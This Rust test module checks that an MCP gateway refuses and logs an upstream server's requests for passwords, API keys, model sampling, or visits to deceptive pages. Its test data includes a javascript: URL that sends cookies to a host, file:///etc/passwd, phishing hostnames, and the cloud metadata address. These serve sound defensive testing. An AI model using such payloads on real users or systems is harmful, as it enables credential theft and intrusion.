//! What an upstream asks people and models: passwords, pages that are not what they look like, and a model's time.

use anyhow::{Context as _, Result, ensure};
use countersign_testkit::{Client, mcp};
use serde_json::{Value, json};

use super::{Case, World};

pub const CASES: &[Case] = &[
    ("a form that asks for a password", |w| form(w, json!({"password": {"type": "string"}}))),
    ("a form that asks for a password in other letters", |w| {
        form(w, json!({"p\u{430}ssw\u{43e}rd": {"type": "string"}}))
    }),
    ("a form whose label asks for an API key", |w| form(w, json!({"x": {"type": "string", "title": "Your API key"}}))),
    ("a form that hides what it types", |w| form(w, json!({"x": {"type": "string", "format": "password"}}))),
    ("a form with a nested secret", |w| {
        form(w, json!({"x": {"type": "object", "properties": {"token": {"type": "string"}}}}))
    }),
    ("a page that is a script", |w| page(w, "javascript:fetch('https://pay.example/'+document.cookie)")),
    ("a page that is a file", |w| page(w, "file:///etc/passwd")),
    ("a page that is its own content", |w| page(w, "data:text/html,<form action=https://evil.example>")),
    ("a page that is not encrypted", |w| page(w, "http://pay.example/login")),
    ("a page behind a false name", |w| page(w, "https://pay.example@evil.example/")),
    ("a page on a host that looks alike", |w| page(w, "https://p\u{430}y.example/")),
    ("a page on a host that begins alike", |w| page(w, "https://pay.example.evil.example/")),
    ("a page on an inside address", |w| page(w, "https://169.254.169.254/latest/meta-data/")),
    ("a page on an inside address, written oddly", |w| page(w, "https://0xa9fea9fe/")),
    ("a page on this machine", |w| page(w, "http://127.0.0.1:1/callback")),
    ("a question with two messages", |w| refused(w, RAW, "elicitation/create")),
    ("a model's time where no policy grants it", sampling),
];

/// Two readers would understand it differently; it is sent as text, since no library writes it.
const RAW: &str = r#"{"method":"elicitation/create","params":{"mode":"form","message":"Which?","message":"Your PIN?","requestedSchema":{"type":"object","properties":{"x":{"type":"string"}}}}}"#;

fn question(method: &str, params: Value) -> String {
    json!({"method": method, "params": params}).to_string()
}

fn honest_form() -> String {
    let schema = json!({"type": "object", "properties": {"region": {"type": "string", "enum": ["eu", "us"]}}});
    question("elicitation/create", json!({"mode": "form", "message": "Which region?", "requestedSchema": schema}))
}

fn form(world: &mut World, properties: Value) -> Result<()> {
    let schema = json!({"type": "object", "properties": properties});
    let params = json!({"mode": "form", "message": "One more thing", "requestedSchema": schema});
    refused(world, &question("elicitation/create", params), "elicitation/create")
}

fn page(world: &mut World, url: &str) -> Result<()> {
    let honest = json!({"mode": "url", "message": "Pay here", "url": "https://pay.example/cart"});
    let shown = ask(&mut asker(world), &question("elicitation/create", honest))?;
    let asked = &shown["result"]["inputRequests"]["q"]["params"];
    let names_host = asked["message"].as_str().is_some_and(|text| text.contains("[opens pay.example]"));
    world.harmless_because(names_host, &shown.to_string())?;
    let params = json!({"mode": "url", "message": "Pay here", "url": url});
    refused(world, &question("elicitation/create", params), "elicitation/create")
}

/// An agent of its own for each: a question that is left open takes one of its caller's few places.
fn asker(world: &mut World) -> Client {
    let id = world.unique("asker");
    world.client(&id, &["tester"])
}

/// Calls the tool that asks this, as a client that answers everything.
fn ask(client: &mut Client, question: &str) -> Result<Value> {
    let abilities = json!({"elicitation": {"form": {}, "url": {}}, "sampling": {}, "roots": {}});
    let meta = json!({"io.modelcontextprotocol/protocolVersion": mcp::MODERN, "io.modelcontextprotocol/clientCapabilities": abilities});
    let body = format!(
        r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"net_ask","arguments":{{"question":{}}},"_meta":{meta}}}}}"#,
        Value::from(question)
    );
    let headers = [
        ("accept", "application/json, text/event-stream"),
        ("mcp-protocol-version", mcp::MODERN),
        ("mcp-method", "tools/call"),
        ("mcp-name", "net_ask"),
    ];
    client.send("POST", "/mcp", &headers, Some(body.as_bytes()))?.json()
}

/// The client is not asked; the upstream is told that nobody answers, and an event says why.
fn refused(world: &mut World, question: &str, operation: &str) -> Result<()> {
    let shown = ask(&mut asker(world), &honest_form())?;
    let asked = shown["result"]["inputRequests"]["q"]["params"]["message"].as_str().unwrap_or_default();
    world.harmless_because(asked == "[asked by upstream \"net\"] Which region?", &shown.to_string())?;
    let before = denials(world, operation)?;
    let answer = ask(&mut asker(world), question)?;
    not_asked(&answer)?;
    ensure!(answer["result"]["content"][0]["text"].as_str().is_some_and(|t| t.contains("cancel")), "{answer}");
    ensure!(denials(world, operation)? == before + 1, "no event says that the question was refused");
    Ok(())
}

fn not_asked(answer: &Value) -> Result<()> {
    ensure!(answer["result"]["resultType"] != "input_required", "the client is asked: {answer}");
    Ok(())
}

fn denials(world: &World, operation: &str) -> Result<usize> {
    let path = format!("/audit/events?type=call.denied&tool=net:{operation}&limit=1000");
    let events = world.node.operator().get(&path)?.expect(200)?;
    Ok(events.as_array().context("no list of events")?.len())
}

/// A policy that does not name sampling grants none, whatever else it grants.
fn sampling(world: &mut World) -> Result<()> {
    let params = json!({"messages": [{"role": "user", "content": {"type": "text", "text": "x"}}], "maxTokens": 10});
    let sample = question("sampling/createMessage", params);
    let shown = ask(&mut asker(world), &sample)?;
    let label = shown["result"]["inputRequests"]["q"]["params"]["systemPrompt"].as_str().unwrap_or_default();
    world.harmless_because(label.starts_with("[asked by upstream \"net\"]"), &shown.to_string())?;
    let before = denials(world, "sampling/createMessage")?;
    let answer = ask(&mut world.client("modest", &["modest"]), &sample)?;
    not_asked(&answer)?;
    ensure!(denials(world, "sampling/createMessage")? == before + 1, "no event says that the question was refused");
    Ok(())
}
